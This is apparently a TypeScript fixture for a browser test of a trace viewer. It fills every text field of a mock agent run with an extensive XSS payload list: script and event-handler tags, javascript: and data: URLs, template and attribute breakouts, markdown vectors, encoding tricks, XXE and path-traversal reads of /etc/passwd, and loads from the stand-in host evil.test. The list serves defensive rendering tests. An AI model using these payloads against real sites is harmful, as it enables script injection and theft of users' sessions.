// Text that has run as script somewhere. Each string is put in every field of a run that can hold text; the browser test
// looks that all of it stays text. The marker below is what a string calls if it ever runs.

import type { KeyValue, MessagePart } from "../src/api/types.ts";
import { RunBuilder, say, tokens, type MockRun, type SpanSpec } from "./run_builder.ts";

const HIT = "window.__xss=1";

const TAGS = [
  `<script>${HIT}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script\n>${HIT}</script\n>`,
  `<<script>${HIT}//<</script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=x onerror="${HIT}">`,
  `<img/src=x/onerror=${HIT}>`,
  `<img src="http://evil.test/p.png">`,
  `<img srcset="http://evil.test/p.png 1x">`,
  `<svg onload=${HIT}>`,
  `<svg/onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=9>x</text></a></svg>`,
  `<svg><use href="http://evil.test/s.svg#x"/></svg>`,
  `<svg><foreignObject><body onload=${HIT}></foreignObject></svg>`,
  `<body onload=${HIT}>`,
  `<body onpageshow=${HIT}>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="http://evil.test/"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<object data="http://evil.test/o"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<embed src="http://evil.test/e">`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href=" javascript:${HIT}">x</a>`,
  `<a href="java\tscript:${HIT}">x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
  `<form action="javascript:${HIT}"><input type=submit></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}>`,
  `<textarea autofocus onfocus=${HIT}>`,
  `<keygen autofocus onfocus=${HIT}>`,
  `<video><source onerror=${HIT}></video>`,
  `<video src=x onerror=${HIT}>`,
  `<video poster="http://evil.test/v.png">`,
  `<audio src=x onerror=${HIT}>`,
  `<audio src="http://evil.test/a.mp3">`,
  `<details open ontoggle=${HIT}>`,
  `<marquee onstart=${HIT}>`,
  `<meta http-equiv=refresh content="0;url=http://evil.test/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<link rel=stylesheet href="http://evil.test/c.css">`,
  `<link rel=preload as=image href="http://evil.test/l.png">`,
  `<base href="http://evil.test/">`,
  `<style>@import "http://evil.test/i.css";</style>`,
  `<style>body{background:url(http://evil.test/b.png)}</style>`,
  `<div style="background:url(http://evil.test/d.png)">`,
  `<div style="width:expression(${HIT})">`,
  `<div onmouseover=${HIT}>x</div>`,
  `<div onclick=${HIT}>x</div>`,
  `<div onpointerenter=${HIT}>x</div>`,
  `<table background="http://evil.test/t.png">`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<title></title><img src=x onerror=${HIT}>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>">`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<?xml version="1.0"?><script>${HIT}</script>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
  `<custom-el onclick=${HIT}>x</custom-el>`,
];
const BREAKS = [
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `"><img src=x onerror=${HIT}>`,
  `' onmouseover='${HIT}`,
  `" onmouseover="${HIT}`,
  `" autofocus onfocus="${HIT}`,
  `\`\${${HIT}}\``,
  `\${${HIT}}`,
  `{{constructor.constructor('${HIT}')()}}`,
  `{{7*7}}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `</script><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `';${HIT};//`,
  `";${HIT};//`,
  `\\';${HIT};//`,
  `\\";${HIT};//`,
  `*/${HIT}/*`,
  `\n${HIT}\n`,
  `\u2028${HIT}\u2029`,
];
const SCHEMES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\nscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${HIT}>`,
  `//evil.test/x`,
  `http://evil.test/x`,
  `https://evil.test/x?q="><script>${HIT}</script>`,
  `file:///etc/passwd`,
  `blob:http://evil.test/1`,
  `\\\\evil.test\\share`,
];
const MARKDOWN = [
  `[x](javascript:${HIT})`,
  `![x](http://evil.test/m.png)`,
  `![x](javascript:${HIT})`,
  `[x]: javascript:${HIT}\n[x]`,
  `<http://evil.test/>`,
  `\`\`\`html\n<img src=x onerror=${HIT}>\n\`\`\``,
  `# <img src=x onerror=${HIT}>`,
  `- <svg onload=${HIT}>`,
  `**<img src=x onerror=${HIT}>**`,
  `\`<img src=x onerror=${HIT}>\``,
];
const ODD = [
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `\u202e<tpircs>`,
  `\u0000<script>${HIT}</script>`,
  `😀<img src=x onerror=${HIT}>`,
  `a\u0300\u0301\u0302<b>`,
  `../../../../etc/passwd`,
  `?from=0&to=1#<script>${HIT}</script>`,
];

export const XSS: string[] = [...TAGS, ...BREAKS, ...SCHEMES, ...MARKDOWN, ...ODD];

const bag = (text: string): KeyValue[] => [
  { key: text, value: { stringValue: text } },
  { key: "list", value: { arrayValue: { values: [{ stringValue: text }] } } },
  { key: "map", value: { kvlistValue: { values: [{ key: text, value: { stringValue: text } }] } } },
];

const part = (type: MessagePart["type"], text: string): MessagePart => ({
  type,
  text: type === "tool_call" ? null : text,
  id: type === "text" || type === "reasoning" ? null : text,
  name: type === "text" || type === "reasoning" ? null : text,
  arguments: type === "tool_call" ? text : null,
});

/** One step with `text` in every field that holds text. */
function hostileStep(text: string, i: number, traceId: string, root: string, startNano: bigint): SpanSpec {
  const time_unix_nano = String(startNano);
  return {
    name: text,
    title: text,
    detail: text,
    kind: i % 3 === 2 ? "tool" : "model",
    parent: root,
    agent: text,
    model: text,
    at: 0.1 + i,
    takes: 0.8,
    tokens: tokens(10, 1),
    firstToken: 0.2,
    error: i % 5 === 0 ? text : null,
    finish: [text],
    scope: text,
    callId: text,
    args: text,
    result: JSON.stringify({ [text]: text }),
    attributes: bag(text),
    events: [{ name: text, time_unix_nano, attributes: bag(text), dropped_attributes_count: 0 }],
    links: [
      {
        trace_id: traceId,
        span_id: root,
        trace_state: text,
        flags: 0,
        attributes: bag(text),
        dropped_attributes_count: 0,
      },
    ],
    input: [
      say("system", text),
      say(text, text),
      { role: "tool", parts: [part("tool_result", text), part("media", text)] },
    ],
    output: [{ role: "assistant", parts: [part("reasoning", text), part("text", text), part("tool_call", text)] }],
  };
}

/** A run in which string number i is in every text field of step i. */
export function xssRun(traceId: string, startNano: bigint): MockRun {
  const told = { service: XSS[0], environment: XSS[5], task: XSS.join(" ").slice(0, 200), conversation: XSS[6] };
  const b = new RunBuilder({ traceId, startNano, ...told, resource: bag(XSS[7]) });
  const root = b.add({ name: XSS[0], title: XSS[0], kind: "agent", agent: XSS[5], at: 0, takes: XSS.length + 1 });
  XSS.forEach((text, i) => b.add(hostileStep(text, i, traceId, root, startNano)));
  const run = b.build();
  run.spans.forEach((s, i) => {
    const text = XSS[i % XSS.length];
    s.scope = { ...s.scope, version: text, attributes: bag(text), schema_url: text };
    s.resource = { ...s.resource, schema_url: text };
    s.trace_state = text;
  });
  const wrong = { error: { message: XSS[1], step: XSS[8] }, state: "error" as const };
  Object.assign(run.summary, wrong, { services: XSS.slice(0, 3), models: XSS.slice(3, 6) });
  return run;
}
